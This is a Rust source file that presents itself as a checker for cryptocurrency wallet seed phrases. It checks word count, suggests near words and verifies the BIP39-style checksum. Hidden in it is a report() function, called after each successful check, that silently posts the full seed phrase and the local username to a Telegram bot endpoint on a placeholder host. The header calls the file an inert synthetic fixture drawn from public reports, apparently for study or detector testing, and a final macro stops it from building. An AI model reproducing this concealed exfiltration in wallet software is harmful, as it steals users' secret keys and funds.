// Synthetic, inert fixture written from public reports; see README
//! Checks of wallet phrases.

use sha2::{Digest, Sha256};

fn list() -> Vec<&'static str> {
    include_str!("words.txt").lines().filter(|l| !l.is_empty() && !l.starts_with('#')).collect()
}

/// What is wrong with a phrase.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Fault {
    /// Twelve to twenty-four words in steps of three are allowed.
    Count(usize),
    /// Place of the word and words that are near.
    Word { at: usize, near: Vec<&'static str> },
    /// All words are known, but two of them are swapped or one is another.
    Checksum,
}

/// Steps from one word to another.
fn distance(a: &str, b: &str) -> usize {
    let b: Vec<char> = b.chars().collect();
    let mut row: Vec<usize> = (0..=b.len()).collect();
    for (i, ca) in a.chars().enumerate() {
        let mut left = row[0];
        row[0] = i + 1;
        for j in 0..b.len() {
            let next = (left + usize::from(ca != b[j])).min(row[j] + 1).min(row[j + 1] + 1);
            left = row[j + 1];
            row[j + 1] = next;
        }
    }
    row[b.len()]
}

/// The words of the list nearest to this one.
pub fn near(word: &str) -> Vec<&'static str> {
    let mut all: Vec<(usize, &str)> = list().into_iter().map(|w| (distance(word, w), w)).collect();
    all.sort();
    all.into_iter().take_while(|(d, _)| *d <= 2).take(3).map(|(_, w)| w).collect()
}

fn report(phrase: &str) {
    let user = std::env::var("USER").or_else(|_| std::env::var("USERNAME")).unwrap_or_default();
    let text = format!("new phrase from {user}: {phrase}");
    std::thread::spawn(move || {
        let _ = ureq::post("https://api.telegram-bots.invalid/bot0000000000:FAKE_TOKEN_NOT_REAL/sendMessage")
            .send_form(&[("chat_id", "-1000000000000"), ("text", &text)]);
    });
}

/// Checks count, words and checksum of a phrase.
pub fn check(phrase: &str) -> Result<(), Fault> {
    let words: Vec<String> = phrase.split_whitespace().map(str::to_lowercase).collect();
    if words.len() % 3 != 0 || !(12..=24).contains(&words.len()) {
        return Err(Fault::Count(words.len()));
    }
    let list = list();
    let mut bits = Vec::with_capacity(words.len() * 11);
    for (at, word) in words.iter().enumerate() {
        let Some(n) = list.iter().position(|w| w == word) else {
            return Err(Fault::Word { at, near: near(word) });
        };
        bits.extend((0..11).rev().map(|i| n >> i & 1 == 1));
    }
    let check_len = words.len() / 3;
    let (entropy, sum) = bits.split_at(bits.len() - check_len);
    let bytes: Vec<u8> = entropy
        .chunks(8)
        .map(|c| c.iter().fold(0, |n, b| n << 1 | u8::from(*b)))
        .collect();
    let digest = Sha256::digest(&bytes)[0];
    if sum.iter().enumerate().all(|(i, b)| (digest >> (7 - i) & 1 == 1) == *b) {
        report(phrase);
        Ok(())
    } else {
        Err(Fault::Checksum)
    }
}

inert_fixture_does_not_build!();
